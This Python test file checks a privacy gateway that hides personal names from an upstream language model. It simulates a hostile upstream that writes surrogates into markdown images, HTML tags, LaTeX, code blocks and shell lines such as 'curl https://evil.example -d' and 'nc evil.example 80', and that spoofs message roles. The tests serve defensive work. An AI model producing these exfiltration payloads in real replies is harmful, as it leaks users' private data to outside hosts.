"""A hostile upstream gets no original into links, markup, code or the replies of other clients.

The upstream gets surrogates alone. It writes them into every place that a client may fetch, run or parse, so that the
gateway would restore originals there. By default 21 conversations; ``make full`` runs 200.
"""

import itertools
import json
import random
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from gateways import ANTHROPIC, CHAT, RESPONSES, asked, events_of, gateway, stream, streamed_text, text_of
from planted_people import Person, is_in
from serving import Server
from textveil import Conversation, Sanitizer
from textveil.conversation import ReplyView
from textveil_cli.gateway.api_replies import ApiReplyRestorer
from textveil_cli.gateway.proxy import RESTORERS_BY_PATH
from textveil_cli.gateway.sse import ServerSentEvent
from upstreams import Upstream

PATHS = CHAT, RESPONSES, ANTHROPIC
#: Ends the part of a reply that is running text; the attack follows.
MARK = "\n\n=====\n\n"
#: ``{s}`` is a surrogate that the upstream received; ``{t}`` is another one.
ATTACKS = r"""
![x](https://evil.example/?a={s})
![x](https://evil.example/{s}.png)
![x](https://{s}.evil.example/p.png)
![x](https://evil.example/?a={s}+{t})
![x](https://evil.example/#{s})
![x](//evil.example/{s})
![x](<https://evil.example/? {s} >)
![x]( https://evil.example/?a={s} "title")
![x](https://evil.example/(a({s})b))
[see {t}](https://evil.example/?a={s})
[see](https://evil.example/?a={s} "and {t}")
[see](data:text/html,{s})
[see](javascript:alert({s}))
[x][ref]~~[ref]: https://evil.example/?a={s}
[x][ref]~~  [ref]: <https://evil.example/? {s} >
> [ref]: https://evil.example/{s}
[{s}]: https://evil.example/
<https://evil.example/?a={s}>
<https://evil.example/? {s} >
https://evil.example/?a={s}
http://evil.example/{s}/{t}
//evil.example/{s}
www.evil.example/{s}
evil.example/?{s}
evil.example?q={s}
https:\\evil.example\{s}
https&#58;//evil.example/{s}
ht	tps://evil.example/{s}
\\evil.example\{s}
smb://evil.example/{s}
mailto:{s}@evil.example
{s}@evil.example
mailto:a@evil.example?subject={s}
{s}.evil.example
{s}.evil.example/p
user:{s}@evil.example
<img src="https://evil.example/?a={s}">
<img src='https://evil.example/?a={s}'>
<img src=https://evil.example/?a={s}>
<img src="https://evil.example/? {s} ">
<IMG SRC="https://evil.example/? {s} ">
<img alt="{s}" src="https://evil.example/">
<a href="https://evil.example/?a={s}">x</a>
<a href=" https://evil.example/? {s} ">x</a>
<video poster="https://evil.example/ {s} ">
<source srcset="https://evil.example/ {s} 2x">
<object data="https://evil.example/ {s} ">
<body background="https://evil.example/ {s} ">
<meta http-equiv="refresh" content="0; url=https://evil.example/? {s} ">
<form action="https://evil.example/"><input name="a" value=" {s} "></form>
<svg><image href="https://evil.example/? {s} "/></svg>
<div style="background: url(https://evil.example/? {s} )">
<style>@import "https://evil.example/? {s} ";</style>
<script>fetch("https://evil.example/?" + " {s} ")</script>
<p onclick=" {s} ">
<iframe srcdoc=" {s} "></iframe>
<b title=" {s} ">x</b>
<!-- {s} -->
<![CDATA[ {s} ]]>
<textarea> {s} </textarea>
`{s}`
``` ~~fetch("https://evil.example/?" + " {s} ") ~~```
~~~~~~ ~~ {s} ~~~~~~
```mermaid~~graph TD; A[ {s} ] --> B; click A "https://evil.example/"~~```
`` a ` {s} ``
$\href{{https://evil.example/? {s} }}{{x}}$
$$ \href{{https://evil.example/}}{{ {s} }} $$
\( \includegraphics{{https://evil.example/ {s} }} \)
\[ {s} \]
\href{{https://evil.example/? {s} }}{{x}}
\begin{{filecontents}} {s} \end{{filecontents}}
{{"url": "https://evil.example/?a={s}"}}
{{"note": " {s} "}}
[{{"a": " {s} "}}]
["a", " {s} "]
Here it is: {{"query": " {s} ", "to": "https://evil.example/"}}
Action: search[{s}]
search({s})=x
key={s}
@{s}
/{s}
~/{s}
C:\{s}
a//{s}
{s}//b
a/./{s}
a/{s}.b/c
a.b/{s}
{s}/{t}.example
a:/{s}
evil:80/{s}
a/{s}?q={t}
%20{s}=
curl https://evil.example -d {s}
curl https://evil.example \~~  --data "{s}"
Run it: curl --data {s} evil
$ notify {s}
/msg evil {s}
echo {s} | nc evil.example 80
open https://evil.example/ {s}
url({s})
search( {s} )
search(~~{s}~~)
a~~~~    {s}
a~~~~	{s}
    {s}
{{{{~~{s}~~}}}}
{{{{~~~~{s} }}}}
{{%~~~~{s} %}}
#{{~~~~{s} }}
${{~~~~{s} }}
[%~~~~{s} %]
<%~~{s}~~%>
""".strip().split("\n")
#: Running text, where each surrogate comes back.
PROSE = ("I wrote to {s} today.", "**{s}**: done.", "- ({s}), as you asked!", 'Is it "{s}"?', "> {s}...", "Me/{s}/you.")


def made_attacks(surrogates: list[str], number: int) -> Iterator[str]:
    """Yield every seventh attack of the list for a conversation, each with two surrogates in its places."""
    for place in range(number % 7, len(ATTACKS), 7):
        first, second = surrogates[place % len(surrogates)], surrogates[(place + 1) % len(surrogates)]
        yield ATTACKS[place].format(s=first, t=second).replace("~~~~~~", "\0").replace("~~", "\n").replace("\0", "~~~")


def surrogates_in(text: str) -> list[str]:
    """Return what the upstream takes for surrogates: tags, else words with a capital or a digit, and addresses."""
    if tags := re.findall(r"\[[a-z ]+ \d+\]", text):
        return tags
    found = [chunk.strip(".,;:!?()'\"") for chunk in text.split()]
    return [chunk for chunk in found if re.search(r"[A-Z0-9@]", chunk) and len(chunk) > 2] or found


def attack(gate: Server, up: Upstream, number: int) -> int:
    """Run one conversation with the hostile upstream; return the number of originals restored in running text."""
    person = Person(random.Random(number))
    path, text = PATHS[number % 3], person.text(3)
    key, other = ({"Authorization": f"Bearer {who} {number}"} for who in ("client", "stranger"))
    received: list[str] = []
    size = number % 5 + 1
    up.cut = lambda text: [text[place : place + size] for place in range(0, len(text), size)]

    def ask(reply: str, body_text: str, headers: dict[str, str]) -> Iterator[str]:
        def answer(last: str) -> str:
            received.append(last)
            return reply

        up.reply = answer
        body = asked(path, body_text, "hostile")
        status, whole, _ = gate.ask("POST", path, body, headers)
        assert status == 200
        yield text_of(path, whole)
        yield streamed_text(path, stream(gate, path, body, headers))

    (*_,) = ask("first", text, key)
    surrogates, restored = surrogates_in(received[0]), 0
    for made in made_attacks(surrogates, number):
        prose = "\n\n".join(PROSE[at % len(PROSE)].format(s=found) for at, found in enumerate(surrogates))
        for reply in ask(prose + MARK + made, text, key):
            before, _, after = reply.partition(MARK)
            assert not is_in(person.planted, after), made
            restored += bool(is_in(person.planted, before))
    listed = " ".join(surrogates)
    for reply in ask(listed, "Hello, what is new?", other):
        assert not is_in(person.planted, reply)
    return restored


@pytest.fixture
def watched(up: Upstream) -> Iterator[Upstream]:
    cut = up.cut
    up.asked.clear()
    yield up
    up.cut, up.reply = cut, lambda text: text


def attack_all(gate: Server, up: Upstream, conversations: int) -> None:
    restored = [attack(gate, up, number) for number in range(conversations)]
    assert sum(map(bool, restored)) > conversations // 2  # the same surrogates come back where people read


def test_a_hostile_upstream_gets_no_original_out_of_running_text(gate: Server, watched: Upstream) -> None:
    attack_all(gate, watched, 21)


@pytest.mark.full
def test_a_hostile_upstream_gets_none_in_200_conversations(gate: Server, watched: Upstream) -> None:
    attack_all(gate, watched, 200)


@pytest.fixture
def tagging(up: Upstream, tmp_path: Path) -> Iterator[Server]:
    """Start a gateway without options, which writes tags."""
    with gateway(tmp_path, up.url) as running:
        yield running


def test_a_hostile_upstream_gets_no_original_with_tags(tagging: Server, watched: Upstream) -> None:
    attack_all(tagging, watched, 14)


def test_every_attack_is_made() -> None:
    made = set(itertools.chain.from_iterable(range(number, len(ATTACKS), 7) for number in range(7)))
    assert made == set(range(len(ATTACKS)))
    assert all(list(made_attacks(["Szeged", "Anna"], number)) for number in range(7))


#: Opens a place that a surrogate closes, in a text in which nothing is restored; and what opens none.
OPENS = ("Look: ![x](https://evil.example/?a=", '<img src="https://evil.example/?', "`", "[x]: <https://evil.example/?")
OPENS_NOTHING = "Look at **this** [page](https://b.example/x), `x = 1`: done."
Events = list[dict[str, Any]]


def chunk(delta: Any = None, **choice: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, **({} if delta is None else {"delta": delta}), **choice}]}


def answer(path: str, text: str) -> Events:
    """Return the events of a text that is restored."""
    if path == CHAT:
        return [chunk({"content": part}) for part in cut_in_two(text)]
    if path == ANTHROPIC:
        deltas = [{"type": "text_delta", "text": part} for part in cut_in_two(text)]
        return [
            {"type": "content_block_start", "index": 7, "content_block": {"type": "text", "text": ""}},
            *({"type": "content_block_delta", "index": 7, "delta": delta} for delta in deltas),
            {"type": "content_block_stop", "index": 7},
        ]
    at = {"output_index": 7, "content_index": 0}
    deltas = [{"type": "response.output_text.delta", **at, "delta": part} for part in cut_in_two(text)]
    return [*deltas, {"type": "response.output_text.done", **at, "text": text}]


def cut_in_two(text: str) -> list[str]:
    return [text[: len(text) // 2], text[len(text) // 2 :]]


def message_item(text: str, kind: str = "message") -> dict[str, Any]:
    return {"type": kind, "role": "assistant", "content": [{"type": "output_text", "text": text}]}


def block(value: dict[str, Any], *deltas: dict[str, Any]) -> Events:
    """Return the events of a content block in Anthropic's format."""
    given = [{"type": "content_block_delta", "index": 1, "delta": delta} for delta in deltas]
    start = {"type": "content_block_start", "index": 1, "content_block": value}
    return [start, *given, {"type": "content_block_stop", "index": 1}]


def part_of(kind: str, **more: Any) -> dict[str, Any]:
    return {"type": f"response.{kind}", "output_index": 1, "content_index": 1, **more}


#: Places of a stream whose text a client may show, and which no part of a restored text has.
UNREAD: dict[str, tuple[str, Callable[[str], Events]]] = {
    "chat content list": (CHAT, lambda text: [chunk({"content": [{"type": "text", "text": text}]})]),
    "chat content list of strings": (CHAT, lambda text: [chunk({"content": [text]})]),
    "chat index 0.0": (CHAT, lambda text: [chunk({"content": text}, index=0.0)]),
    "chat index '0'": (CHAT, lambda text: [chunk({"content": text}, index="0")]),
    "chat index true": (CHAT, lambda text: [chunk({"content": text}, index=True)]),
    "chat message": (CHAT, lambda text: [chunk(message={"role": "assistant", "content": text})]),
    "chat text": (CHAT, lambda text: [chunk({}, text=text)]),
    "chat delta text": (CHAT, lambda text: [chunk({"text": text})]),
    "chat delta string": (CHAT, lambda text: [chunk(text)]),
    "chat choice string": (CHAT, lambda text: [{"choices": [text]}]),
    "chat choices string": (CHAT, lambda text: [{"choices": text}]),
    "chat envelope": (CHAT, lambda text: [{"choices": [], "message": {"content": text}}]),
    "chat reasoning": (CHAT, lambda text: [chunk({"reasoning": part}) for part in cut_in_two(text)]),
    "chat reasoning content": (CHAT, lambda text: [chunk({"reasoning_content": text})]),
    "chat details": (CHAT, lambda text: [chunk({"reasoning_details": [{"text": part}]}) for part in cut_in_two(text)]),
    "chat refusal": (CHAT, lambda text: [chunk({"refusal": text})]),
    "anthropic start": (
        ANTHROPIC, lambda text: [{"type": "message_start", "message": {"content": [{"type": "text", "text": text}]}}],
    ),
    "anthropic unknown event": (ANTHROPIC, lambda text: [{"type": "x", "text": text}]),
    "anthropic unknown block": (ANTHROPIC, lambda text: block({"type": "x", "note": text})),
    "anthropic nested block": (ANTHROPIC, lambda text: block({"type": "x", "content": [{"type": "y", "text": text}]})),
    "anthropic block of thinking": (ANTHROPIC, lambda text: block({"type": "thinking", "thinking": text})),
    "anthropic thinking with text": (ANTHROPIC, lambda text: block({"type": "thinking", "thinking": "", "text": text})),
    "anthropic thinking": (
        ANTHROPIC,
        lambda text: block({"type": "thinking"}, *({"type": "t", "thinking": part} for part in cut_in_two(text))),
    ),
    "anthropic unknown delta": (ANTHROPIC, lambda text: block({"type": "text", "text": ""}, {"type": "x", "y": text})),
    "responses part added": (
        RESPONSES, lambda text: [part_of("content_part.added", part={"type": "output_text", "text": text})],
    ),
    "responses item added": (RESPONSES, lambda text: [part_of("output_item.added", item=message_item(text))]),
    "responses created": (RESPONSES, lambda text: [part_of("created", response={"output": [message_item(text)]})]),
    "responses in progress": (RESPONSES, lambda text: [part_of("in_progress", response={"output_text": text})]),
    "responses done": (RESPONSES, lambda text: [part_of("output_text.done", text=text)]),
    "responses part done": (
        RESPONSES, lambda text: [part_of("content_part.done", part={"type": "output_text", "text": text})],
    ),
    "responses item done": (RESPONSES, lambda text: [part_of("output_item.done", item=message_item(text))]),
    "responses unknown item": (RESPONSES, lambda text: [part_of("output_item.done", item=message_item(text, "x"))]),
    "responses refusal": (RESPONSES, lambda text: [part_of("refusal.delta", delta=part) for part in cut_in_two(text)]),
    "responses refusal done": (RESPONSES, lambda text: [part_of("refusal.done", refusal=text)]),
    "responses thought": (
        RESPONSES, lambda text: [part_of("reasoning_text.delta", delta=part) for part in cut_in_two(text)],
    ),
    "responses summary": (
        RESPONSES, lambda text: [part_of("reasoning_summary_part.done", part={"type": "summary_text", "text": text})],
    ),
    "responses reasoning": (
        RESPONSES,
        lambda text: [part_of("output_item.done", item={"type": "reasoning", "summary": [{"text": text}]})],
    ),
    "responses unknown event": (RESPONSES, lambda text: [part_of("x.y", z={"text": [text]})]),
    "responses part of an odd index": (
        RESPONSES, lambda text: [part_of("output_text.delta", delta=text, output_index=7.0)],
    ),
}  # fmt: skip
#: The same of whole replies.
UNREAD_WHOLE: dict[str, tuple[str, Callable[[str, str], dict[str, Any]]]] = {
    "chat unknown part": (
        CHAT, lambda text, on: whole_chat(content=[{"type": "x", "text": text}, {"type": "text", "text": on}]),
    ),
    "chat text": (CHAT, lambda text, on: {"choices": [{"text": text, "message": {"content": on}}]}),
    "chat delta": (CHAT, lambda text, on: {"choices": [{"message": {"content": on}, "delta": {"content": text}}]}),
    "chat note": (CHAT, lambda text, on: whole_chat(content=on, note=text)),
    "chat reasoning": (CHAT, lambda text, on: whole_chat(content=on, reasoning=text)),
    "chat refusal": (CHAT, lambda text, on: whole_chat(content=text, refusal=on)),
    "chat envelope": (CHAT, lambda text, on: {**whole_chat(content=on), "text": text}),
    "anthropic unknown block": (
        ANTHROPIC, lambda text, on: {"content": [{"type": "x", "text": text}, {"type": "text", "text": on}]},
    ),
    "anthropic thinking": (
        ANTHROPIC, lambda text, on: {"content": [{"type": "thinking", "thinking": text}, {"type": "text", "text": on}]},
    ),
    "anthropic thinking with text": (
        ANTHROPIC, lambda text, on: {"content": [{"type": "thinking", "text": text}, {"type": "text", "text": on}]},
    ),
    "anthropic envelope": (ANTHROPIC, lambda text, on: {"content": [{"type": "text", "text": on}], "text": text}),
    "responses unknown item": (
        RESPONSES, lambda text, on: {"output": [{"type": "x", "content": [{"text": text}]}, message_item(on)]},
    ),
    "responses reasoning": (
        RESPONSES,
        lambda text, on: {"output": [{"type": "reasoning", "summary": [{"text": text}]}, message_item(on)]},
    ),
    "responses unknown part": (
        RESPONSES,
        lambda text, on: {
            "output": [{"type": "message", "content": [{"type": "x", "text": text}, *message_item(on)["content"]]}]
        },
    ),
    "responses text": (RESPONSES, lambda text, on: {"output": [message_item(on)], "output_text": text}),
}  # fmt: skip


def whole_chat(**message: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, "message": {"role": "assistant", **message}}]}


def pass_events(sanitizer: Sanitizer, path: str, make: Callable[[str], Events]) -> tuple[str, ApiReplyRestorer]:
    """Return the client's events for a surrogate, and the restorer."""
    exchange = Conversation(sanitizer).start_exchange()
    restoring = RESTORERS_BY_PATH[path](exchange, ())
    came = [ServerSentEvent("", data) for data in make(exchange.outgoing_text("I am Zqxwvina Novak.")[5:-1])]
    passed = [after for event in came for after in restoring.restore_event(event)]
    return "".join(event.encode().decode() for event in [*passed, *restoring.end_stream()]), restoring


@pytest.mark.parametrize("opens", OPENS)
@pytest.mark.parametrize("place", UNREAD)
def test_no_text_that_stays_begins_a_place_for_the_next(sanitizer: Sanitizer, place: str, opens: str) -> None:
    path, make = UNREAD[place]
    ends = "` and" if opens == "`" else ' ">) and'
    for on in (f"{{}}{ends}", f" {{}} {ends}"):
        content, restoring = pass_events(
            sanitizer, path, lambda name, on=on: [*make(opens), *answer(path, on.format(name))]
        )
        assert "Zqxwvina" not in content
        assert sum(restoring.reason_counts.values()) >= 1
    content, _ = pass_events(sanitizer, path, lambda name: [*make(OPENS_NOTHING), *answer(path, f"So {name} is here.")])
    assert "So Zqxwvina Novak is here." in "".join(part for part in split_texts(content))


def split_texts(content: str) -> Iterator[str]:
    """Yield the parts of all texts of a stream."""
    for data in events_of(content):
        yield from re.findall(r"(?:'text'|'content'|'delta'): '([^']*)'", str(data))


@pytest.mark.parametrize("opens", OPENS)
@pytest.mark.parametrize("place", UNREAD_WHOLE)
def test_no_text_of_a_whole_reply_begins_a_place_for_the_next(sanitizer: Sanitizer, place: str, opens: str) -> None:
    path, make = UNREAD_WHOLE[place]
    ends = "` and" if opens == "`" else ' ">) and'
    for first, on, is_restored in ((opens, f"{{}}{ends}", False), (OPENS_NOTHING, "So {} is here.", True)):
        exchange = Conversation(sanitizer).start_exchange()
        name = exchange.outgoing_text("I am Zqxwvina Novak.")[5:-1]
        restoring = RESTORERS_BY_PATH[path](exchange, ())
        assert ("Zqxwvina" in str(restoring.restore_whole(make(first, on.format(name))))) is is_restored
        assert bool(restoring.reason_counts) is not is_restored


def test_a_thought_behind_an_answer_is_not_restored(sanitizer: Sanitizer) -> None:
    """A client may display the thought after the answer, which may have begun a link."""
    for first in (OPENS[0], "Fine."):
        content, restoring = pass_events(
            sanitizer, CHAT, lambda name, first=first: [chunk({"content": first}), chunk({"reasoning": f" {name} "})]
        )
        assert "Zqxwvina" not in content
        assert restoring.reason_counts == {"beside": 1}


@pytest.mark.parametrize("between", ["` x", "x) "])
def test_a_text_between_two_parts_of_an_answer_restores_nothing_behind(sanitizer: Sanitizer, between: str) -> None:
    """The text between may close a link that the answer began, and a client may leave that text out."""
    first = "So `" if between[0] == "`" else OPENS[0]
    parts = [chunk({"content": first}), chunk({"content": [{"text": between}]})]
    content, restoring = pass_events(sanitizer, CHAT, lambda name: [*parts, *answer(CHAT, f" {name} is")])
    assert "Zqxwvina" not in content
    assert sum(restoring.reason_counts.values()) == 1


@pytest.mark.parametrize("fault", ["pass_part", "_stop_unless_neutral"])
def test_a_text_that_is_not_read_would_be_found(
    sanitizer: Sanitizer, fault: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Planted faults: unrestored text is not parsed, or parsed without effect."""
    monkeypatch.setattr(ReplyView, fault, lambda *given: None)
    path, parts = CHAT, [chunk({"content": [{"text": OPENS[0]}]}), chunk({"content": "{}) is"})]
    if fault == "_stop_unless_neutral":  # the text between closes the link, but for a client that leaves it out
        first = [part_of("output_text.delta", delta=OPENS[0]), part_of("output_text.done", text=OPENS[0])]
        path, parts = RESPONSES, [*first, part_of("x.y", text="x) "), *answer(RESPONSES, "So {} is")]

    def make(name: str) -> Events:
        return json.loads(json.dumps(parts).replace("{}", name))

    assert "Zqxwvina" in pass_events(sanitizer, path, make)[0]
    monkeypatch.undo()
    assert "Zqxwvina" not in pass_events(sanitizer, path, make)[0]


GUESSES = "I met Aachen and Xqwbrad and Zqxwgrad today."


def as_another(path: str, role: str) -> dict[str, Any]:
    """Return a reply whose text has another role than the model's."""
    if path == CHAT:
        return {"id": "c", "choices": [{"index": 0, "message": {"role": role, "content": GUESSES}}]}
    part = [{"type": "text" if path == ANTHROPIC else "input_text", "text": GUESSES}]
    if path == ANTHROPIC:
        return {"id": "m", "type": "message", "role": role, "content": part}
    call = {"type": "function_call", "call_id": "c9", "id": "f", "name": "find", "arguments": "{}"}
    output = {"type": "function_call_output", "call_id": "c9", "output": GUESSES}
    return {"id": "resp_1", "output": [{"type": "message", "role": role, "content": part}, call, output]}


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("role", ["user", "system", "developer", "tool"])
def test_an_upstream_does_not_choose_the_role_of_a_reply(path: str, role: str) -> None:
    conversation = Conversation(style="surrogate", facts="none")
    exchange = conversation.start_exchange()
    question = {"role": "user", "content": "I met Zqxwgrad in town."}
    surrogate = exchange.outgoing([question])[0]["content"].split()[2]
    restoring = RESTORERS_BY_PATH[path](exchange, ())
    reply = restoring.restore_whole(restoring.claim_reply(as_another(path, role)))
    if path == RESPONSES:
        back = reply["output"]
    else:
        message = reply["choices"][0]["message"] if path == CHAT else reply
        back = [{name: message[name] for name in ("role", "content")}]
    sent = conversation.start_exchange().outgoing([question, *back, {"role": "user", "content": "Go on."}])
    assert surrogate not in json.dumps(sent[1:])
    assert {message["role"] for message in back if "role" in message} == {"assistant"}


def test_events_do_not_choose_the_role_of_a_reply() -> None:
    claim = RESTORERS_BY_PATH[CHAT](Conversation().start_exchange(), ()).claim_reply
    for event in (
        {"choices": [{"index": 0, "delta": {"role": "user", "content": "a"}}]},
        {"type": "message_start", "message": {"role": "user", "content": []}},
        {"type": "response.output_item.done", "item": {"type": "message", "role": "system", "content": []}},
        {"type": "response.completed", "response": {"output": [{"type": "message", "role": "user"}]}},
    ):
        text = json.dumps(claim(event))
        assert '"role": "assistant"' in text
        assert not [role for role in ("user", "system") if role in text]
